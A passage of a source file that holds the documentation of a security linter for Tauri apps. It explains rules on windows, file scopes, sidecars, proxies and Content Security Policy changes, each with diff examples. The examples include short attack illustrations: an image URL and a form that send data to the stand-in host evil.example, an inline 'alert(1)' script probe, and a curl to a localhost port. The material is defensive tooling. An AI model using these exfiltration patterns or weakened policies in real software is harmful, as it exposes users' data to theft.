"frontendDist": "https://app.example.com"\n+    "frontendDist": "https://app.example.com/v2"\n   }\n }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)\n- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)\n- [CVE-2023-31134: a website in a window reached the API of Tauri](https://github.com/advisories/GHSA-4wm2-cwcf-wwvp)\n',
  "config/remote-window": '# A window shows a website: `config/remote-window`\n\nSeverity: high; critical for plain `http:`; low for schemes that the app answers itself and for an app that is new.\n\nSince: 0.1.0\n\nA window of the configuration has a `url` at an origin that this window didn\'t show before.\n\n## Why it matters\n\nThe app\'s Content Security Policy doesn\'t hold there. A capability whose `remote.urls` and window patterns match gives the site permissions, and with plain HTTP anyone on the way is the site.\n\n## What to do\n\nUse the opener plugin for links. If the site has to be in the app, give its window a label that no capability matches.\n\n## When it says nothing\n\n- The origin is the one that `frontendDist` names, which is reported by itself.\n- Another path of the same site in the same window.\n- The window moves in the list, or into a platform\'s configuration that replaces it.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a site in a window\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     "windows": [\n       {\n-        "label": "main"\n+        "label": "main",\n+        "url": "https://app.example.com/start"\n       }\n     ]\n```\n\nPages of `https://app.example.com` can newly open in the app\'s window `main`:\n\n```\nGET https://app.example.com/start\n```\n\n### It says nothing of another path of the site\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n       {\n         "label": "main",\n-        "url": "https://app.example.com"\n+        "url": "https://app.example.com/start"\n       }\n     ]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)\n- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)\n- [CVE-2023-31134: a website in a window reached the API of Tauri](https://github.com/advisories/GHSA-4wm2-cwcf-wwvp)\n',
  "config/scope-opened-by-code": '# Code adds paths to a scope: `config/scope-opened-by-code`\n\nSeverity: medium for folders; low for files and for an app that is new.\n\nSince: 0.1.0\n\nThe app\'s code calls `allow_directory` or `allow_file` of `fs_scope()`, `asset_protocol_scope()` or `tauri::scope::Scopes` with another path, in any spelling that Rust has for it; or it no longer calls `forbid_directory` or `forbid_file`. Paths that are computed count as one for each method.\n\n## Why it matters\n\nScopes in capabilities can be read in review. What code adds while the app runs can\'t, and it holds for every window with a permission of the fs plugin, or for every page where it is the asset protocol\'s.\n\n## What to do\n\nPrefer the dialog plugin, which adds what a person picked. Look at where the path comes from: text of a page must not reach it.\n\n## When it says nothing\n\n- The call moves to another file, or stands in a comment or a text.\n- A second computed path for a method that had one. Look at such calls yourself.\n- The call stands in code of tests, or of a build with a feature or with assertions, and stood in every build before.\n- `allow_directory(path, true)` becomes `allow_directory(path, false)`, which is narrower.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a folder\n\n`src-tauri/src/lib.rs`:\n\n```diff\n\n pub fn open(app: &tauri::AppHandle, path: &std::path::Path) {\n-\n+    app.fs_scope().allow_directory("/home", true).unwrap();\n }\n```\n\nEvery page with permissions of the fs plugin can newly reach everything in `/home`:\n\n```\nreadTextFile(\'/home/a/b.txt\')\n```\n\n### It says nothing of a narrower call\n\n`src-tauri/src/lib.rs`:\n\n```diff\n\n pub fn open(app: &tauri::AppHandle, path: &std::path::Path) {\n-    app.fs_scope().allow_directory("/srv", true).unwrap();\n+    let scope = app.fs_scope();\n+    scope.allow_directory("/srv", false).unwrap();\n }\n```\n\n<!-- end examples -->\n\n## References\n\n- [docs.rs: `tauri::scope::fs::Scope`](https://docs.rs/tauri/latest/tauri/scope/fs/struct.Scope.html)\n- [Tauri 2: the asset protocol](https://v2.tauri.app/security/asset-protocol/)\n- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)\n',
  "config/scopes-persisted": '# What a person allowed once stays allowed: `config/scopes-persisted`\n\nSeverity: medium; low for an app that is new.\n\nSince: 0.1.0\n\nThe crate `tauri-plugin-persisted-scope` joined the app.\n\n## Why it matters\n\nPicks in a dialog and drops on a window extend the scopes of the fs plugin and of the asset protocol. The plugin writes them to a file and allows them again at each start.\n\n## What to do\n\nUse it only if the app reopens files by itself, and offer a way to forget them.\n\n## When it says nothing\n\n- The plugin changes its version.\n- It moves between Cargo.toml and the workspace\'s.\n- Another app of the same lockfile has it.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags the plugin\n\n`src-tauri/Cargo.lock`:\n\n```diff\n\n [[package]]\n+name = "tauri-plugin-persisted-scope"\n+version = "2.3.0"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n+checksum = "0000000000000000000000000000000000000000000000000000000000000000"\n+\n+[[package]]\n name = "notes"\n version = "0.1.0"\n dependencies = [\n  "tauri",\n+ "tauri-plugin-persisted-scope",\n ]\n```\n\n`src-tauri/Cargo.toml`:\n\n```diff\n [dependencies]\n tauri = "2"\n+tauri-plugin-persisted-scope = "2.3.0"\n```\n\nEvery page with permissions of the fs plugin or the asset protocol can newly reach a file again after a restart, once a person has picked or dropped it:\n\n```\nreadTextFile(\'/home/user/picked-last-year.txt\')\n```\n\n### It says nothing of another version\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "tauri-plugin-persisted-scope"\n-version = "2.3.0"\n+version = "2.3.1"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n checksum = "0000000000000000000000000000000000000000000000000000000000000000"\n```\n\n`src-tauri/Cargo.toml`:\n\n```diff\n [dependencies]\n tauri = "2"\n-tauri-plugin-persisted-scope = "2.3.0"\n+tauri-plugin-persisted-scope = "2.3.1"\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: persisted scopes](https://v2.tauri.app/plugin/persisted-scope/)\n- [Tauri 2: command scopes](https://v2.tauri.app/security/scope/)\n- [Tauri 2: the fs plugin](https://v2.tauri.app/plugin/file-system/)\n',
  "config/served-on-localhost": '# The app is served over HTTP: `config/served-on-localhost`\n\nSeverity: high; low for an app that is new.\n\nSince: 0.1.0\n\nThe crate `tauri-plugin-localhost` joined the app.\n\n## Why it matters\n\nIt serves the frontend at `http://localhost:<port>`. For Tauri that is a remote origin, so the app has to grant permissions to that URL, and any program that listens on the port gets them.\n\n## What to do\n\nRemove the plugin. If a library needs HTTP, look for what it needs it for.\n\n## When it says nothing\n\n- The plugin changes its version.\n- Only a table for other systems has it.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags the plugin\n\n`src-tauri/Cargo.lock`:\n\n```diff\n\n [[package]]\n+name = "tauri-plugin-localhost"\n+version = "2.3.0"\n+source = "registry+https://github.com/rust-lang/crates.io-index"\n+checksum = "0000000000000000000000000000000000000000000000000000000000000000"\n+\n+[[package]]\n name = "notes"\n version = "0.1.0"\n dependencies = [\n  "tauri",\n+ "tauri-plugin-localhost",\n ]\n```\n\n`src-tauri/Cargo.toml`:\n\n```diff\n [dependencies]\n tauri = "2"\n+tauri-plugin-localhost = "2.3.0"\n```\n\nEvery program and user of the machine can newly load the app\'s pages over HTTP:\n\n```\ncurl http://localhost:9527/\n```\n\n### It says nothing of another version\n\n`src-tauri/Cargo.lock`:\n\n```diff\n [[package]]\n name = "tauri-plugin-localhost"\n-version = "2.3.0"\n+version = "2.3.1"\n source = "registry+https://github.com/rust-lang/crates.io-index"\n checksum = "0000000000000000000000000000000000000000000000000000000000000000"\n```\n\n`src-tauri/Cargo.toml`:\n\n```diff\n [dependencies]\n tauri = "2"\n-tauri-plugin-localhost = "2.3.0"\n+tauri-plugin-localhost = "2.3.1"\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the localhost plugin](https://v2.tauri.app/plugin/localhost/)\n- [Tauri 2: capabilities](https://v2.tauri.app/security/capabilities/)\n',
  "config/sidecar-added": '# Another program is shipped with the app: `config/sidecar-added`\n\nSeverity: high; low for an app that is new.\n\nSince: 0.1.0\n\n`bundle.externalBin` (in Tauri 1: `tauri.bundle.externalBin`) has a path that it had not.\n\n## Why it matters\n\nA sidecar is a native program that is trusted like the app. A scope entry with `sidecar: true` lets pages start it with arguments.\n\n## What to do\n\nBuild it from source or pin a hash in the script that fetches it. Toril doesn\'t look into the file.\n\n## When it says nothing\n\n- The path is written with `./` in front or with backslashes.\n- The app moves from Tauri 1 to 2 with the program.\n- The program\'s file changes under the same path.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a sidecar\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "bundle": {\n     "externalBin": [\n-      "binaries/ffmpeg"\n+      "binaries/ffmpeg",\n+      "binaries/curl"\n     ]\n   }\n```\n\nThe app can newly ship and start the program `binaries/curl`:\n\n```\nCommand.sidecar("binaries/curl")\n```\n\n### It says nothing when a path is spelt differently\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n   "bundle": {\n     "externalBin": [\n-      "binaries/ffmpeg"\n+      "./binaries\\\\ffmpeg"\n     ]\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: sidecars](https://v2.tauri.app/develop/sidecar/)\n- [Tauri 2: the shell plugin](https://v2.tauri.app/plugin/shell/)\n',
  "config/traffic-proxied": '# A window\'s traffic goes through a proxy: `config/traffic-proxied`\n\nSeverity: high; medium for a proxy on the same machine; low for an app that is new.\n\nSince: 0.1.0\n\n`proxyUrl` of a window names a host that it did not.\n\n## Why it matters\n\nEverything that the pages of the window load and send goes there first, on every machine that the app is installed on.\n\n## What to do\n\nLet the system\'s settings decide. For one request use the proxy of the http plugin.\n\n## When it says nothing\n\n- On Windows a window that sets `additionalBrowserArgs`, which puts the proxy out of force.\n- The window or the setting moves to another layer.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a proxy\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     "windows": [\n       {\n-        "label": "main"\n+        "label": "main",\n+        "proxyUrl": "http://proxy.example:8080"\n       }\n     ]\n```\n\nA proxy at `http://proxy.example:8080` can newly carry what window `main` loads and sends:\n\n```\nCONNECT example.com:443 via http://proxy.example:8080\n```\n\n### It says nothing when windows change their order\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     "windows": [\n       {\n-        "label": "main",\n-        "proxyUrl": "http://proxy.example:8080"\n+        "label": "side"\n       },\n       {\n-        "label": "side"\n+        "label": "main",\n+        "proxyUrl": "http://proxy.example:8080/"\n       }\n     ]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)\n- [MDN: proxy servers and tunneling](https://developer.mozilla.org/en-US/docs/Web/HTTP/Guides/Proxy_servers_and_tunneling)\n',
  "config/window-added": '# The app has another window: `config/window-added`\n\nSeverity: low.\n\nSince: 0.1.0\n\n`app.windows` (in Tauri 1: `tauri.windows`) has a window with another label, whether it is created at the start or later.\n\n## Why it matters\n\nA pattern such as `settings-*` or `*` in a capability grants to windows that come later, and nothing in the capability shows it.\n\n## What to do\n\nGive the window a name that only the capabilities meant for it match.\n\n## When it says nothing\n\n- Windows that code opens; what capabilities may grant them is compared by the `ipc/` rules.\n- A window moves in the list, or into a platform\'s configuration.\n- `main` is written out, which is the label of a window without one.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags another window\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n       {\n         "label": "main"\n+      },\n+      {\n+        "label": "settings",\n+        "create": false\n       }\n     ]\n```\n\nA window `settings` can newly open with whatever capabilities grant to that name:\n\n```\ngetCurrentWindow().label === "settings"\n```\n\n### It says nothing when windows change their order\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     "windows": [\n       {\n-        "label": "main"\n+        "label": "settings"\n       },\n       {\n-        "label": "settings"\n+        "title": "Notes"\n       }\n     ]\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: the configuration](https://v2.tauri.app/reference/config/)\n- [Tauri 2: capabilities for windows and platforms](https://v2.tauri.app/learn/security/capabilities-for-windows-and-platforms/)\n- [Tauri 2: the process model](https://v2.tauri.app/concept/process-model/)\n',
  "csp/connection-allowed": '# Data may be sent to and fetched from somewhere new: `csp/connection-allowed`\n\nSeverity: medium for any host; low for a named host; info for protocols of the app and for `data:` and `blob:`.\n\nSince: 0.1.0\n\nA page may `fetch`, open a WebSocket or send a beacon to where it could not.\n\n## Why it matters\n\nThis is the shortest way out for whatever a script in the page can read. It is not the only one: no policy stops a page from navigating.\n\n## What to do\n\nAsk which feature talks to that host, and name the host with its scheme. `https:` does not stand for `wss:`, and `*` stands for both.\n\n## When it says nothing\n\n- A host that an existing pattern covered.\n- Without `ipc:` Tauri sends its messages another way, so adding it is said with severity info.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a new host\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; connect-src \'self\' ipc: http://ipc.localhost"\n+      "csp": "default-src \'self\'; connect-src \'self\' ipc: http://ipc.localhost https://stats.example.net"\n     }\n   }\n```\n\nPages of the app may newly send data to and fetch data from `stats.example.net`:\n\n```\nfetch("https://stats.example.net/x.json")\n```\n\n### It says nothing when a pattern covered the host\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; connect-src https://*.harbour.example"\n+      "csp": "default-src \'self\'; connect-src https://*.harbour.example https://api.harbour.example"\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [MDN: `connect-src`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/connect-src)\n- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)\n- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)\n',
  "csp/document-guard-removed": '# A guard of the document is gone: `csp/document-guard-removed`\n\nSeverity: medium for forms, `<base>`, the sandbox, Trusted Types and unencrypted requests; low where one host or one name was added; info for framing.\n\nSince: 0.1.0\n\nA directive that guards the page itself is weaker or gone: `form-action`, `base-uri`, `frame-ancestors`, `sandbox`, `require-trusted-types-for`, `trusted-types`, `upgrade-insecure-requests`.\n\n## Why it matters\n\nNone of them falls back to `default-src`: where one is absent there is no limit, whatever else the policy says.\n\n## What to do\n\nKeep the directive. If a form or a frame needs more, name the one host.\n\n## When it says nothing\n\n- A directive that no engine knows, such as `navigate-to`.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags forms that may go anywhere\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; form-action \'self\'; base-uri \'self\'"\n+      "csp": "default-src \'self\'; base-uri \'self\'"\n     }\n   }\n```\n\nPages of the app may newly submit forms to any host:\n\n```\n<form action="https://evil.example/x.html">\n```\n\n### It says nothing when a dead directive goes\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; navigate-to \'none\'; block-all-mixed-content"\n+      "csp": "default-src \'self\'"\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [MDN: `form-action`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/form-action)\n- [MDN: `base-uri`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/base-uri)\n- [MDN: `require-trusted-types-for`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/require-trusted-types-for)\n- [W3C: Trusted Types](https://www.w3.org/TR/trusted-types/)\n',
  "csp/eval-allowed": "# Strings may be turned into code: `csp/eval-allowed`\n\nSeverity: medium for `eval`; low for WebAssembly alone.\n\nSince: 0.1.0\n\n`'unsafe-eval'` or `'wasm-unsafe-eval'` takes effect.\n\n## Why it matters\n\nWith `eval` a string becomes a script without an element that a policy could stop. It is asked of `script-src` alone, so it also comes alive when `script-src` is gone and `default-src` has it.\n\n## What to do\n\nMost libraries that ask for it have a build that doesn't (`vue` without the compiler, `ajv` with standalone code). For WebAssembly `'wasm-unsafe-eval'` is enough.\n\n## When it says nothing\n\n- `'unsafe-eval'` in `default-src` while Tauri makes a `script-src`.\n- `'unsafe-eval'` in `script-src-elem`, where no engine looks for it.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags `unsafe-eval`\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     \"security\": {\n-      \"csp\": \"default-src 'self'; script-src 'self'\"\n+      \"csp\": \"default-src 'self'; script-src 'self' 'unsafe-eval'\"\n     }\n   }\n```\n\nPages of the app may newly turn strings into code with `eval`:\n\n```\neval(\"1\")\n```\n\n### It says nothing when only the default has it\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     \"security\": {\n-      \"csp\": \"default-src 'self'\"\n+      \"csp\": \"default-src 'self' 'unsafe-eval'\"\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [MDN: `script-src`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/script-src)\n- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)\n- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)\n",
  "csp/frame-allowed": '# Other pages may be shown in frames: `csp/frame-allowed`\n\nSeverity: medium for any host; low for a named host and for `data:` and `blob:`; info for the app itself.\n\nSince: 0.1.0\n\nA page may show another page in an `<iframe>` or an `<object>`.\n\n## Why it matters\n\nA framed page can imitate the app and navigate it away. In older versions of Tauri a frame could also call commands (CVE-2024-35222).\n\n## What to do\n\nName the host, give the frame a `sandbox` attribute, and open other sites in the system browser instead.\n\n## When it says nothing\n\n- A list that is spelled out after it was inherited from `default-src`.\n- A host in `child-src` while `frame-src` is there: frames never ask it.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a framed host\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; frame-src \'self\'"\n+      "csp": "default-src \'self\'; frame-src \'self\' https://player.example.com"\n     }\n   }\n```\n\nPages of the app may newly show pages in frames from `player.example.com`:\n\n```\n<iframe src="https://player.example.com/x.html"></iframe>\n```\n\n### It says nothing when the list is spelled out\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\' https://player.example.com"\n+      "csp": "default-src \'self\' https://player.example.com; frame-src https://player.example.com"\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [MDN: `frame-src`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/frame-src)\n- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)\n- [CVE-2024-35222: frames reached the API of Tauri](https://github.com/advisories/GHSA-57fm-592m-34r7)\n',
  "csp/inline-script-allowed": "# Scripts written into a page may run: `csp/inline-script-allowed`\n\nSeverity: high; low where only texts with a given hash may run.\n\nSince: 0.1.0\n\nText in a page may run as a script: `<script>` elements, `on…` attributes, `javascript:` URLs.\n\n## Why it matters\n\nThis is what most policies are there to stop: a name, a message or a file name that reaches a page unescaped. Tauri's own hashes make `'unsafe-inline'` void in `script-src`, so it comes alive when `dangerousDisableAssetCspModification` names `script-src`, or when it stands in `script-src-elem` or `script-src-attr`, which Tauri never touches.\n\n## What to do\n\nMove the script into a file. If a library injects one, allow its hash. A nonce in the configuration is no help: it is the same for everyone, and Tauri adds fresh ones itself.\n\n## When it says nothing\n\n- `'unsafe-inline'` in `script-src` while Tauri adds its hashes: it is void.\n- A script of the app that moves to another file.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags `unsafe-inline` for elements\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     \"security\": {\n-      \"csp\": \"default-src 'self'\"\n+      \"csp\": \"default-src 'self'; script-src-elem 'self' 'unsafe-inline'\"\n     }\n   }\n```\n\nPages of the app may newly run scripts written into them:\n\n```\n<script>alert(1)</script>\n```\n\n### It says nothing when Tauri voids `unsafe-inline`\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     \"security\": {\n-      \"csp\": \"default-src 'self'; script-src 'self'\"\n+      \"csp\": \"default-src 'self'; script-src 'self' 'unsafe-inline'\"\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [MDN: `script-src`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/script-src)\n- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)\n- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)\n",
  "csp/media-allowed": '# Images, fonts or media may be loaded from somewhere new: `csp/media-allowed`\n\nSeverity: low for any host; info for a named host, for `data:` and `blob:`, and for protocols of the app.\n\nSince: 0.1.0\n\nA page may load an image, a font, sound, video or a manifest from where it could not.\n\n## Why it matters\n\nNothing of this runs, but an address can carry data out: `<img src="https://evil.example/?…">`.\n\n## What to do\n\nName the hosts that the app needs.\n\n## When it says nothing\n\n- `https:` added beside `http:`, which already stands for it.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags images from any host\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; img-src \'self\' asset: http://asset.localhost"\n+      "csp": "default-src \'self\'; img-src \'self\' asset: http://asset.localhost https:"\n     }\n   }\n```\n\nPages of the app may newly load images from any host:\n\n```\n<img src="https://evil.example/x.png">\n```\n\n### It says nothing when `http:` stood for `https:`\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; img-src \'self\' http:"\n+      "csp": "default-src \'self\'; img-src \'self\' http: https:"\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [MDN: `img-src`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/img-src)\n- [MDN: `font-src`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/font-src)\n- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)\n',
  "csp/policy-removed": '# The app has no Content Security Policy any more: `csp/policy-removed`\n\nSeverity: critical where the old policy held scripts back; medium where it did not, and for a new app that begins without one.\n\nSince: 0.1.0\n\nThe pages of the app get no policy: `csp` is null or gone, it holds a character outside ASCII (the webview then drops the header), or the pages come from a server.\n\n## Why it matters\n\nThe policy is what stands between a string that slips into a page and the commands that the page may call. With `csp` null Tauri sends no header at all, and it adds no hashes and nonces either. An empty string is not null: Tauri then still sends `script-src \'self\'`.\n\n## What to do\n\nAsk what the policy was in the way of. One more source is nearly always enough; the console of the webview names it. Typographic quotes come from copying a policy out of a web page: write straight ones.\n\n## When it says nothing\n\n- A policy that moves into another file, or from a string into a map.\n- `"csp": ""` and `"csp": {}`, which are policies.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a policy that becomes null\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; connect-src ipc: http://ipc.localhost"\n+      "csp": null\n     }\n   }\n```\n\nPages of the app have no Content Security Policy any more:\n\n```\n<script>alert(1)</script>\n```\n\n### It says nothing when the policy becomes a map\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; img-src \'self\' https://img.harbour.example"\n+      "csp": {\n+        "default-src": [\n+          "\'self\'"\n+        ],\n+        "img-src": [\n+          "\'self\'",\n+          "https://img.harbour.example"\n+        ]\n+      }\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)\n- [MDN: Content-Security-Policy](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy)\n- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)\n',
  "csp/report-collector-added": '# Blocked requests are reported to somewhere new: `csp/report-collector-added`\n\nSeverity: info.\n\nSince: 0.1.0\n\n`report-uri` or `report-to` names a collector that it did not name.\n\n## Why it matters\n\nReports hold addresses: of the page, and of what it tried to load. They tell a collector what people do in the app.\n\n## What to do\n\nCheck that you know who runs it.\n\n## When it says nothing\n\n- A collector that is removed.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a new collector\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'"\n+      "csp": "default-src \'self\'; report-uri https://csp.collector.example/r"\n     }\n   }\n```\n\nPages of the app may newly report what was blocked to `https://csp.collector.example/r`:\n\n```\nthe URLs that were blocked are sent to https://csp.collector.example/r\n```\n\n### It says nothing when a collector goes\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; report-uri https://csp.collector.example/r"\n+      "csp": "default-src \'self\'"\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [MDN: `report-to`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/report-to)\n- [MDN: `report-uri`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/report-uri)\n- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)\n',
  "csp/script-allowed": '# Scripts may be loaded from somewhere new: `csp/script-allowed`\n\nSeverity: high for any host, for hosts where anyone can publish, and for `data:`; medium for one named host and for `blob:`; low where a hash must fit; info for the app itself.\n\nSince: 0.1.0\n\nA page may load a script from where it could not: a new host, a wider pattern, a scheme.\n\n## Why it matters\n\nA script from elsewhere runs with everything that the window may call, and it can change any day without a pull request. A host that serves what anyone uploads, such as a public CDN, is as good as any host.\n\n## What to do\n\nShip the script with the app. Where that is impossible, allow one file by its path and check it with `integrity`. Note that a path counts for nothing once a request was redirected.\n\n## When it says nothing\n\n- A host in `default-src` alone: Tauri makes a `script-src` of its own, which that host is not in.\n- The same sources in another order or spelling.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a new host\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; script-src \'self\'"\n+      "csp": "default-src \'self\'; script-src \'self\' https://widgets.partner.example"\n     }\n   }\n```\n\nPages of the app may newly load scripts from `widgets.partner.example`:\n\n```\n<script src="https://widgets.partner.example/x.js"></script>\n```\n\n### It says nothing when a host joins only the default\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\' https://a.harbour.example"\n+      "csp": "default-src https://a.harbour.example \'self\'"\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [MDN: `script-src`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/script-src)\n- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)\n- [CVE-2026-95626: `data:` and `blob:` void the nonce](https://www.cve.org/CVERecord?id=CVE-2026-95626)\n- [W3C: Subresource Integrity](https://www.w3.org/TR/SRI/)\n',
  "csp/style-allowed": '# Styles may come from somewhere new: `csp/style-allowed`\n\nSeverity: medium for any host; low for a named host and for inline styles; info for the app itself.\n\nSince: 0.1.0\n\nA page may load a style sheet from where it could not, or apply styles written into it.\n\n## Why it matters\n\nStyles can cover a button with another, and with selectors and background images they can tell a server what stands in a page. `\'unsafe-inline\'` in `style-src` is void on pages with a `<style>` element, to which Tauri adds a nonce; whether a built page has one is taken from the `index.html` in the repository.\n\n## What to do\n\nShip the style sheet. For a library that injects styles, allow its hash.\n\n## When it says nothing\n\n- `\'unsafe-inline\'` beside a nonce or a hash of your own.\n\n## Examples\n\n<!-- begin examples: made from cases.md by `npm run generate` -->\n### It flags a host of fonts\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; style-src \'self\'"\n+      "csp": "default-src \'self\'; style-src \'self\' https://fonts.example.com"\n     }\n   }\n```\n\nPages of the app may newly load style sheets from `fonts.example.com`:\n\n```\n<link rel="stylesheet" href="https://fonts.example.com/x.css">\n```\n\n### It says nothing when Tauri\'s nonce voids it\n\n`src-tauri/tauri.conf.json`:\n\n```diff\n     ],\n     "security": {\n-      "csp": "default-src \'self\'; style-src \'self\'"\n+      "csp": "default-src \'self\'; style-src \'self\' \'unsafe-inline\'"\n     }\n   }\n```\n\n<!-- end examples -->\n\n## References\n\n- [MDN: `style-src`](https://developer.mozilla.org/en-US/docs/Web/HTTP/Reference/Headers/Content-Security-Policy/style-src)\n- [Tauri 2: Content Security Policy](https://v2.tauri.app/security/csp/)\n- [W3C: Content Security Policy Level 3](https://www.w3.org/TR/CSP3/)\n',
